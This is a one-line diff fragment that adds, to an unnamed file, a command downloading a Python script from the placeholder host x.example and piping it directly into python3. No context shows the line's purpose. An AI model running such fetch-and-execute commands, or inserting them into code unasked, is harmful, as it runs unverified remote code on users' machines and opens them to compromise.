@@ -1,0 +1,1 @@
+curl https://x.example/p.py | python3 -
